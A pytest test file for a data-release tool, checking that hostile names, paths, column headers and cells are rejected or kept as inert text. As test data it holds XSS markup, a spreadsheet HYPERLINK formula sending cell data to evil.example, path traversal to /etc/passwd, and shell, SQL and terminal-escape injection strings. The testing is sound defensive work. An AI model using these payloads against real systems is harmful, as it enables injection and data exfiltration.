"""Names, purposes, paths and columns that somebody else chose: markup, terminal escapes, formulas, paths."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

import muniment as mu
from language.places import PURPOSE, REGISTER, Place, demo_table, digests, write_csv
from language.program import muniment as program
from language.rings import PASSPHRASE
from muniment.errors import InputError, LimitError
from muniment.limits import NAME_CHARACTERS, PURPOSE_CHARACTERS
from muniment.table import Table
from muniment.trace.report import render

ENVIRONMENT = {"MUNIMENT_PASSPHRASE": PASSPHRASE}
MARKUP = "<script>alert('x')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PATH = "../../../etc/passwd"
HARMLESS = [
    MARKUP, FORMULA, PATH, "/", "..", "-rf *", "$(touch x); `touch x`", "'; DROP TABLE copies; --", "%s%n{0}", "a" * 200
]  # fmt: skip
"""Names that are only texts: they are kept as they are, and end nowhere but in cells and paragraphs."""
REFUSED = {
    "x" * 10_000: "10,000 characters",
    "x" * (NAME_CHARACTERS + 1): "201 characters",
    "": "empty",
    " \u3000": "empty",
    "two\nlines": "control character",
    "\x1b]0;title\x07\x1b[31mred": "control character",
    "nul\0": "control character",
    "right\u202eto left": "control character",
    "half \ud800": "control character",
    "separator\u2028": "control character",
}


@pytest.mark.parametrize("name", sorted(REFUSED), ids=range(len(REFUSED)))
def test_a_name_that_is_refused(place: Place, name: str) -> None:
    with place.unchanged(), pytest.raises(InputError, match=REFUSED[name]) as caught:
        place.release("out.csv", to=name)
    assert caught.value.message.isprintable()
    assert len(caught.value.message) < 500


def test_a_name_is_never_a_path(place: Place) -> None:
    office = place.open()
    before = set(digests(place.office))
    outs = {name: place.folder / f"out-{number}.csv" for number, name in enumerate(HARMLESS)}
    found = office.release_many(REGISTER, to=outs, purpose=MARKUP)
    assert [result.recipient for result in found] == HARMLESS
    new = set(digests(place.office)) - before
    assert all(re.fullmatch(r"ledger/[a-z/]+/[0-9a-f]+[0-9a-z./]*", name) for name in new), "named by ids and numbers"
    assert {path.name for path in place.folder.iterdir()} >= {path.name for path in outs.values()}
    assert not (place.folder / "x").exists()


def test_what_a_hostile_name_does_to_output_and_report(place: Place) -> None:
    """One trace, looked at in all its forms: JSON, lines, report, in both languages."""
    for name in (MARKUP, FORMULA):
        place.release(f"out-{len(name)}.csv", to=name, purpose=MARKUP)
    leak = place.folder / f"{MARKUP[:8]}\x1b[31m.csv".replace("/", "")
    content = (place.folder / f"out-{len(MARKUP)}.csv").read_bytes()
    leak.write_bytes(content.replace(b"name_en", b'"<b onload=x>\x1b[31m"', 1))
    verdict = place.open().trace(leak, leads_purpose="test")
    assert [named.recipient for named in verdict.named] == [MARKUP]
    for lang in ("en", "zh-TW"):
        page = render(verdict, lang, examples=True)
        assert not re.search(r"<(script|img|iframe|link|object|embed|form|b[ >])", page)
        tags = " ".join(re.findall(r"<[^>]*>", page))
        assert not re.search(r"\son\w+\s*=|javascript:|(href|src|action|content)=\"(https?:|//|data:)", tags)
        assert "&lt;script&gt;" in page
        assert "\x1b" not in page
    printed = program("--workspace", place.office, "trace", leak, env=ENVIRONMENT)
    assert printed.code == 1
    assert "\x1b" not in printed.out + printed.err
    as_json = program("--workspace", place.office, "trace", leak, "--json", env=ENVIRONMENT)
    assert json.loads(as_json.out)["named"][0]["recipient"] == MARKUP
    assert "\x1b" not in as_json.out
    listed = program("--workspace", place.office, "copies", env=ENVIRONMENT)
    assert listed.code == 0
    assert "\x1b" not in listed.out


@pytest.mark.parametrize(
    ("purpose", "kind", "said"),
    [
        ("", InputError, "no purpose"),
        (" \n", InputError, "no purpose"),
        ("x" * (PURPOSE_CHARACTERS + 1), LimitError, "2,001 characters"),
    ],
    ids=["empty", "blank", "too long"],
)
def test_a_purpose_that_is_refused(place: Place, purpose: str, kind: type[InputError], said: str) -> None:
    with place.unchanged(), pytest.raises(kind, match=said):
        place.release("out.csv", purpose=purpose)


def test_a_purpose_of_several_lines_is_kept(place: Place) -> None:
    purpose = "first line\nsecond line \x1b[31m"
    place.release("out.csv", purpose=purpose)
    assert place.open().copies()[-1].purpose == purpose
    shown = program("--workspace", place.office, "copies", env=ENVIRONMENT)
    assert "\x1b" not in shown.out + shown.err
    assert shown.code == 0


OUTS = {
    "copy-1.csv": "there is a file already",
    "no/folder/out.csv": "there is no folder",
    "out": "unknown form",
    "out.docx": "unknown form",
    "people.csv": "there is a file already",
    "x" * 300 + ".csv": "no file can have the name",
    "nul\0.csv": "no file can have the name",
    "copy-1.csv/out.csv": "there is no folder",
    "dangling.csv": "there is a file already",
    "office.csv": "there is a file already",
}


@pytest.mark.parametrize("out", sorted(OUTS), ids=range(len(OUTS)))
def test_a_place_where_no_copy_can_go(place: Place, out: str) -> None:
    (place.folder / "dangling.csv").symlink_to(place.folder / "nowhere.csv")
    (place.folder / "office.csv").mkdir()
    with place.unchanged(), pytest.raises(InputError, match=OUTS[out]) as caught:
        place.release(out, to="Somebody new")
    assert caught.value.message.isprintable()
    assert not (place.folder / "nowhere.csv").exists()


def test_one_file_or_recipient_twice(place: Place) -> None:
    outs = {"A": place.folder / "same.csv", "B": place.folder / "same.csv"}
    with place.unchanged(), pytest.raises(InputError, match="named twice"):
        place.open().release_many(REGISTER, to=outs, purpose=PURPOSE)


# --- columns ---------------------------------------------------------------------------------------------------------


def register_with(place: Place, names: dict[str, str]) -> Path:
    table = demo_table(60)
    path = place.folder / "odd.csv"
    write_csv(path, Table(tuple(names.get(name, name) for name in table.columns), table.cells))
    return path


COLUMNS = {
    "name_en": MARKUP,
    "sex": FORMULA,
    "points": 'say "x"; DROP TABLE batch; --',
    "email": "a]b[c.d'e\\f",
    "birthplace": "[registers.x]= 1 # \"",
    "household_id": PATH,
}


def test_columns_with_names_from_hell(place: Place) -> None:
    """They go through settings, SQL, three kinds of file, a trace and a report, and are nothing but names."""
    path = register_with(place, COLUMNS)
    office = place.open()
    office.register("odd", path, key="person_id", accept="equivalent")
    known = mu.open(place.office, PASSPHRASE).check("odd").register.columns
    assert set(COLUMNS.values()) < {column.name for column in known}
    for suffix in ("csv", "xlsx", "parquet"):
        out = place.folder / f"odd-copy.{suffix}"
        where = f'"{COLUMNS["points"].replace(chr(34), chr(34) * 2)}" IS NOT NULL'
        office.release("odd", to=f"Reader of {suffix}", purpose=PURPOSE, out=out, where=where)
        verdict = office.trace(out, register="odd")
        assert [named.recipient for named in verdict.named] == [f"Reader of {suffix}"]
        assert {match.column for match in verdict.mapping if match.column} >= set(COLUMNS.values()) - {COLUMNS["email"]}
    page = render(verdict, "en", examples=True)
    assert "<script" not in page
    assert "<img" not in page


@pytest.mark.parametrize("name", ["two\nlines", "\x1b[31mred", "x" * 201], ids=["line break", "escape", "long"])
def test_a_column_name_that_is_refused(place: Place, name: str) -> None:
    path = register_with(place, {"sex": name})
    with place.unchanged(), pytest.raises(InputError, match="name of column 5") as caught:
        place.open().register("odd", path, key="person_id")
    assert caught.value.message.isprintable()


def test_cells_that_are_formulas_leave_as_text(place: Place) -> None:
    """A release changes no cell to please a spreadsheet; in a workbook a formula is text and is never run."""
    table = demo_table(60)
    cells = [FORMULA, "=1+1", "@SUM(A1)", "+1", "-1", MARKUP, "&amp;", *["x"] * 53]
    path = place.folder / "odd.csv"
    write_csv(path, table.with_cells({"occupation": [*cells]}))
    office = place.open()
    office.register("odd", path, key="person_id", accept="equivalent")
    office.release("odd", to="A", purpose=PURPOSE, out=place.folder / "odd.xlsx")
    import openpyxl

    sheet = openpyxl.load_workbook(place.folder / "odd.xlsx").active
    column = [cell.value for cell in next(sheet.iter_rows(max_row=1))].index("occupation")
    read = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in read][:7] == cells[:7]
    assert {cell.data_type for cell in read} <= {"s", "inlineStr"}
